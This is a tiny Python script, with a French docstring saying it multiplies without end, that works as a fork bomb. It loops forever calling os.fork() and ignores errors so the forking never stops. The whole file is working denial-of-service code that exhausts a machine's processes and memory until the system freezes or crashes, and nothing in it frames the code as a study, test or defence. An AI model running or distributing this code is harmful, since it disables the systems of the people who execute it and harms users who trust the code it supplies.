"""Se multiplie sans fin."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
